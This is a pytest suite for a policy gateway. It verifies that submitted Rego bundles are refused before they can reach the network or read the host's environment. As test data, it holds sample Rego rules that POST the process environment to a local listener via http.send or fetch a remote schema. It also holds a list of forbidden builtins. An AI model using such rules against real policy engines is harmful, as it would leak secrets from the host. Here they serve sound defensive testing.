"""The proposal checks run an officer's Rego on the gateway host: nothing in it
may reach the network, read the gateway's environment, or run at all once the
``builtins`` check has refused the bundle."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from gateway.policy.checks import (
    FORBIDDEN_BUILTINS,
    PolicyRejected,
    allowed_builtins,
    check_bundle,
    run_opa,
)
from tests.policies.conftest import POLICY_DIR
from tests.policies.workflow_support import bundle_with, policy_events, policy_store

pytestmark = pytest.mark.opa

CANARY = "ACCORD_SANDBOX_CANARY"


class Listener:
    """A real HTTP server on 127.0.0.1 that records every request it receives."""

    def __init__(self) -> None:
        self.received: list[tuple[str, str, bytes]] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                listener.received.append((self.command, self.path, self.rfile.read(length)))
                body = b'{"type": "object"}'
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _record

            def log_message(self, *_args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Listener:
        self._thread.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener() as running:
        yield running


EXFILTRATION = {
    # The review's finding: the environment posted to a listener from a Rego test.
    "http_send": (
        "http.send",
        "test_exfiltrate if {{\n"
        '\thttp.send({{"method": "post", "url": "{url}/env", "body": opa.runtime().env,'
        ' "raise_error": false}})\n'
        "}}\n",
    ),
    # A schema's remote $ref makes OPA fetch it while it evaluates.
    "schema_ref": (
        "json.match_schema",
        'test_fetch if {{\n\tjson.match_schema({{}}, {{"$ref": "{url}/schema.json"}})\n}}\n',
    ),
}


@pytest.mark.parametrize("kind", sorted(EXFILTRATION))
def test_rego_test_cannot_reach_a_listener_on_the_gateway_host(
    sqlite_url: str, opa_bin: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    monkeypatch.setenv(CANARY, "gateway-secret")
    builtin, rule = EXFILTRATION[kind]
    test_file = "package accord.exfil_test\n\n" + rule.format(url=listener.url)
    bundle = bundle_with({"exfil_test.rego": test_file})
    with policy_store(sqlite_url, opa_bin) as (service, audit, _):
        service.ensure_initial(POLICY_DIR)
        with pytest.raises(PolicyRejected) as err:
            service.propose(bundle, actor="user:alice")
        assert listener.received == []
        assert err.value.detail.startswith("builtins: ")
        checks = {c["name"]: c for c in err.value.extra["checks"]}
        assert checks["builtins"]["status"] == "failed"
        named = f"exfil_test.rego:4: rego_type_error: undefined function {builtin}"
        assert named in checks["builtins"]["detail"]
        assert checks["rego_tests"]["status"] == "skipped"
        assert checks["rego_tests"]["detail"].startswith("not run: the builtins check failed")
        assert service.get(bundle.version).status == "rejected"
        assert "builtins" in policy_events(audit)[-1]["detail"]["checks_failed"]


def test_rego_tests_do_not_run_when_the_builtins_check_fails(opa_bin: Path) -> None:
    """The test would pass if it ran (it asserts the gateway's secret is visible):
    it must not run, and a check that did not run is never reported as passed."""
    leak = (
        "package accord.env_test\n\n"
        f'test_sees_gateway_env if opa.runtime().env.{CANARY} == "gateway-secret"\n'
    )
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv(CANARY, "gateway-secret")
        report = check_bundle(bundle_with({"env_test.rego": leak}), opa_bin)
    by_name = {c.name: c for c in report.checks}
    assert by_name["builtins"].outcome == "failed"
    assert "undefined function opa.runtime" in by_name["builtins"].detail
    assert by_name["rego_tests"].outcome == "skipped", by_name["rego_tests"]
    assert by_name["rego_tests"].detail.startswith("not run: the builtins check failed")
    # Compiled under the same capabilities, the OPA compiler refuses it as well.
    assert "undefined function opa.runtime" in by_name["opa_check"].detail
    assert not report.ok


def test_opa_runs_without_the_gateway_environment(
    opa_bin: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every ``opa`` the checks start sees an environment of its own, whatever
    built-ins a future capabilities file lets through."""
    monkeypatch.setenv(CANARY, "gateway-secret")
    proc = run_opa(opa_bin, ["eval", "--format=json", "opa.runtime().env"], home=tmp_path)
    assert proc.returncode == 0, proc.stderr
    env = json.loads(proc.stdout)["result"][0]["expressions"][0]["value"]
    assert env == {"HOME": str(tmp_path), "TMPDIR": str(tmp_path)}


def test_capabilities_allow_no_network_host_or_clock_builtin(opa_bin: Path) -> None:
    allowed = allowed_builtins(str(opa_bin))
    families = ("http.", "net.", "opa.", "rand.")
    assert not [b for b in allowed if b.startswith(families)]
    for name in ("time.now_ns", "uuid.rfc4122", "trace", "print", "json.match_schema"):
        assert name in FORBIDDEN_BUILTINS and name not in allowed
    assert {"sprintf", "time.parse_rfc3339_ns", "object.get"} <= allowed
